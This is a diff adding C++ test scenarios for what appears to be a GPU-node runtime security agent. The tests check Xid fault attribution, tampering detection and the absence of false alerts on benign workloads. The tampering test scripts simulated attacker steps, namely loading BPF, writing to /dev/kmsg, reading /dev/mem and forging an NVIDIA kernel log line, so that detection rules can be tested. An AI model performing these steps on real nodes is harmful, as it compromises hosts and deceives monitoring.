+  EXPECT_EQ(fatal[0]["output_fields"].value("gpu.pci", json()), "0000:3b:00") << fatal[0].dump();
+
+  // An application fault naming a process of a pod: attributed to that pod.
+  PodRun r;
+  r.argv = {s().tool("pt_main_thread"), "train.py"};
+  r.steps = "open:/dev/nvidiactl:rw;alloc:c6c0;sleep:3000";
+  pid_t seen = 0;
+  std::thread job([&] { seen = run_in_pod(pod("pretrain-0"), r).first; });
+  // Wait until the workload runs, then write its Xid.
+  pid_t wpid = 0;
+  for (int i = 0; i < 50 && wpid == 0; ++i) {
+    std::this_thread::sleep_for(100ms);
+    for (const auto& e : fs::directory_iterator("/proc")) {
+      std::string n = e.path().filename();
+      if (n.find_first_not_of("0123456789") != std::string::npos) continue;
+      std::ifstream c(e.path() / "comm");
+      std::string comm;
+      std::getline(c, comm);
+      std::ifstream cg(e.path() / "cgroup");
+      std::string all((std::istreambuf_iterator<char>(cg)), std::istreambuf_iterator<char>());
+      if (comm == "pt_main_thread" && all.find(pod("pretrain-0").id) != std::string::npos) {
+        wpid = std::stoi(n);
+        break;
+      }
+    }
+  }
+  ASSERT_NE(wpid, 0) << "the workload did not start";
+  s().kmsg(4, "NVRM: Xid (PCI:0000:3b:00): 13, pid=" + std::to_string(wpid) +
+                  ", name=pt_main_thread, Graphics SM Warp Exception on (GPC 1, TPC 0, SM 0): Misaligned Address");
+  job.join();
+  EXPECT_EQ(seen, wpid);
+  expect_alert("GPU Xid application fault", "pretrain-0", "Warning");
+}
+
+TEST_F(Scenario, TamperingWithTheNode) {
+  PodRun r;
+  r.argv = {s().tool("bpfloader")};
+  r.steps = "bpf;open:/dev/kmsg:w;open:/dev/mem:r";
+  ASSERT_EQ(run_in_pod(pod("job-0"), r).second, 0);
+  expect_alert("BPF program loaded by unexpected process", "job-0", "Warning");
+  expect_alert("Kernel log opened for writing in container", "job-0", "Error");
+  expect_alert("Host memory device opened in container", "job-0", "Critical");
+
+  // An Xid line written from user space: its facility is LOG_USER, not the kernel's.
+  s().kmsg(12, "NVRM: Xid (PCI:0000:3b:00): 48, pid='<unknown>', name=<unknown>, forged DBE");
+  auto forged = s().agent.alerts(
+      [](const json& a) { return a.value("rule", "") == "Forged NVIDIA kernel message"; }, 10s);
+  ASSERT_FALSE(forged.empty()) << s().agent.stderr_text();
+  EXPECT_EQ(forged[0].value("priority", ""), "Critical");
+  auto counted = s().agent.alerts([](const json& a) {
+    return a.value("rule", "").rfind("GPU Xid", 0) == 0 && a["output_fields"].value("gpu.xid", json()) == 48;
+  });
+  EXPECT_TRUE(counted.empty()) << "a forged Xid was taken for a GPU error: " << dump(counted);
+}
+
+TEST_F(Scenario, BenignWorkloadsRaiseNothing) {
+  std::set<long> pids;
+  // An inference server on its allocated GPU talking to cluster services and the model hub.
+  PodRun inf;
+  inf.dns = {{"redis.cache.svc.cluster.local", "10.100.4.7"}, {"huggingface.co", "198.51.100.70"}};
+  inf.tcp_sinks = {"10.100.4.7:6379", "198.51.100.70:443"};
+  inf.argv = {s().tool("vllm"), "serve", "/models/llama-3-8b", "--port", "8000"};
+  inf.steps =
+      "open:/dev/nvidiactl:rw;open:/dev/nvidia1:rw;open:/dev/nvidia-uvm:rw;alloc:c56f;alloc:c6c0;"
+      "control:20800110;dns:redis.cache.svc.cluster.local@10.96.0.10;tcp:10.100.4.7:6379;"
+      "send:*1\\r\\n$4\\r\\nPING\\r\\n;dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443;"
+      "send:GET /api/models HTTP/1.1\\r\\nHost: huggingface.co\\r\\n\\r\\n";
+  auto [ipid, irc] = run_in_pod(pod("llm-ok-0"), inf);
+  EXPECT_EQ(irc, 0);
+  pids.insert(ipid);
+
+  // A training job on its two GPUs, with its rendezvous peer on a pool-like port.
+  PodRun tr;
+  tr.tcp_sinks = {"10.244.3.18:4444"};
+  tr.argv = {s().tool("pt_main_thread"), "-m", "torch.distributed.run", "--nproc_per_node=2", "train.py",
+             "--optimizer", "adamw"};
+  tr.steps = "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;open:/dev/nvidia1:rw;alloc:c6c0;tcp:10.244.3.18:4444";
+  auto [tpid, trc] = run_in_pod(pod("pretrain-0"), tr);
+  EXPECT_EQ(trc, 0);
+  pids.insert(tpid);
+
+  // A batch pod running shell scripts.
+  std::string script = s().tmp + "/etl.sh";
+  std::ofstream(script) << "#!/bin/sh\nfor i in 1 2 3; do echo $i; done | /bin/sh -c 'wc -l' > /dev/null\n";
+  chmod(script.c_str(), 0755);
+  PodRun etl;
+  etl.argv = {s().tool("etl")};
+  etl.steps = "exec:/bin/sh|" + script;
+  auto [epid, erc] = run_in_pod(pod("etl-0"), etl);
+  EXPECT_EQ(erc, 0);
+  pids.insert(epid);
+
+  // nvidia-smi on the host, changing the power limit (the admin's job).
+  pid_t h = fork();
+  if (h == 0) {
+    setenv("VIGIL_STEPS", "open:/dev/null:rw", 1);
+    execl(s().tool("nvidia-smi").c_str(), "nvidia-smi", "-pl", "300", static_cast<char*>(nullptr));
+    _exit(127);
+  }
+  waitpid(h, nullptr, 0);
+  pids.insert(h);
+
+  auto got = any_alert({"llm-ok-0", "pretrain-0", "etl-0"}, pids);
+  // The training pod may legitimately carry the Xid alert of the Xid scenario.
+  std::vector<json> bad;
+  for (const auto& a : got)
+    if (a.value("rule", "").rfind("GPU Xid", 0) != 0) bad.push_back(a);
+  EXPECT_TRUE(bad.empty()) << "benign workloads raised alerts:\n" << dump(bad);
+}
+
+}  // namespace
